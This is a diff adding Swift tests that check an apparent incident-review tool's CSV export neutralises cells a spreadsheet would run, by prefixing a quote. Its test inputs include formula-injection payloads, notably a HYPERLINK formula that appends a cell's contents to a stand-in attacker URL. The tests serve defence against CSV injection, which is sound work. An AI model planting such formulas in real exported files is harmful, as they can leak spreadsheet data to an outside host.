@@ -76,6 +76,33 @@ import Yams
         #expect(cells.dropFirst().first == title.replacingOccurrences(of: "&", with: "&amp;"))
     }
 
+    // MARK: CSV cells
+
+    @Test(arguments: ["=HYPERLINK(\"http://evil.example\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
+    func aCellThatASpreadsheetWouldRunGetsALeadingQuote(value: String) {
+        let csv = CSV.render(headers: ["title"], rows: [[value]])
+        let cell = String(csv.dropFirst("title\r\n".count).dropLast())  // "\r\n" is one Character
+        let quoted = cell.hasPrefix("\"")
+        let text = quoted ? String(cell.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : cell
+        #expect(text == "'" + value)
+    }
+
+    @Test func numbersAndPlainTextInCSVStayAsTheyAre() {
+        #expect(CSV.render(headers: ["a", "b", "c", "d"], rows: [["-12", "-0.25", "p99 - 1.2s", "a,b"]]) ==
+                "a,b,c,d\r\n-12,-0.25,p99 - 1.2s,\"a,b\"\r\n")
+    }
+
+    @Test func incidentLogNeutralisesATitleThatIsAFormula() throws {
+        let fixture = try SLOFixture()
+        defer { fixture.remove() }
+        fixture.base.clock.set("2026-11-18T10:00:00Z")
+        _ = try fixture.base.open("=HYPERLINK(\"http://evil.example/?\"&A1,\"fix\")", sev: "SEV2", service: "ops_copilot")
+        fixture.base.clock.set("2026-11-23T09:00:00Z")
+        let pack = try ReviewService(fixture.workspace).build(week: ISOWeek("2026-W47")!)
+        let log = try #require(pack.files.first { $0.name == "incident_log.csv" }).text
+        #expect(log.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"fix\"\")\","))
+    }
+
     // MARK: Sizes
 
     @Test func aTitleOrNoteOverTheLimitIsRefusedWithWhatToDoAndNothingIsWritten() throws {
